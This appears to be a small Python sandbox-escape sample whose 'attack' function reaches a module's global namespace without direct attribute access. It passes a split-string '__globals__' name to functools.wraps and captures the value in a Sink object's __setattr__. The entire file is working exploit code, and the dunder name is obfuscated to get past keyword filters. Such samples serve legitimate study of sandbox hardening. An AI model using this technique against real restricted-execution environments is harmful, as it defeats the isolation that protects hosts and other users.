# gained: namespace
from functools import wraps
from typing import Any, cast
import json


class Sink:
    def __setattr__(self, name: str, value: Any) -> None:
        HEARD.append(value)


HEARD: list[Any] = []


def attack(path: str) -> Any:
    wraps(json.dumps, ("__glo" + "bals__",), ())(cast(Any, Sink()))
    return HEARD[0]
